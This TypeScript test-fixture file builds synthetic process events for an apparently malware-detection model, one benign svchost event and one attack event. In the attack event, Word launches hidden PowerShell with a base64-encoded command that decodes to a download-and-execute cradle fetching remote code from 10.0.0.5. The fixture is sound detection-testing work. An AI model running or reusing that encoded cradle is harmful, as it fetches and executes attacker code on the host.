/** Hand-made events for unit tests (no external data needed). */
import type { ProcessEvent } from '../../../../common/types/process_event';

let counter = 0;

export interface EventSpec {
  name: string;
  exe?: string;
  cmd?: string;
  parentName?: string;
  parentExe?: string;
  user?: string;
  userId?: string;
  host?: string;
  signed?: boolean;
  trusted?: boolean;
  integrity?: string;
  original?: string;
  time?: string;
  parentStart?: string;
  elastic?: number;
}

export function makeEvent(spec: EventSpec): ProcessEvent {
  counter++;
  const host = spec.host ?? 'ws01.example.local';
  return {
    '@timestamp': spec.time ?? '2024-01-01T10:00:00.000Z',
    host: { name: host },
    event: {
      category: ['process'],
      type: ['start'],
      action: 'start',
      id: `fixture-${counter}`,
      code: '1',
    },
    process: {
      entity_id: `pe-${counter}`,
      name: spec.name,
      executable: spec.exe,
      command_line: spec.cmd,
      pe: spec.original ? { original_file_name: spec.original } : undefined,
      code_signature:
        spec.signed === undefined
          ? undefined
          : { exists: spec.signed, trusted: spec.trusted ?? spec.signed },
      Ext: spec.integrity ? { token: { integrity_level_name: spec.integrity } } : undefined,
      parent: {
        name: spec.parentName,
        executable: spec.parentExe,
        start: spec.parentStart,
        entity_id: `pp-${counter}`,
      },
    },
    user: { name: spec.user, id: spec.userId },
    problemchild: {
      sources: [{ kind: 'file', file: 'fixture', line: counter, format: 'ecs' }],
      prediction_probability: spec.elastic,
    },
  };
}

export const ATTACK_B64 =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAnACkA';

export function benignSvchost(): ProcessEvent {
  return makeEvent({
    name: 'svchost.exe',
    exe: 'C:\\Windows\\System32\\svchost.exe',
    cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    parentName: 'services.exe',
    parentExe: 'C:\\Windows\\System32\\services.exe',
    user: 'SYSTEM',
    userId: 'S-1-5-18',
    signed: true,
    trusted: true,
    integrity: 'System',
    original: 'svchost.exe',
  });
}

export function attackWinwordPowershell(): ProcessEvent {
  return makeEvent({
    name: 'powershell.exe',
    exe: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    cmd: `powershell.exe -nop -w hidden -enc ${ATTACK_B64}`,
    parentName: 'WINWORD.EXE',
    parentExe: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    user: 'alice',
    userId: 'S-1-5-21-1-2-3-1104',
    signed: true,
    trusted: true,
    integrity: 'Medium',
    original: 'PowerShell.EXE',
  });
}
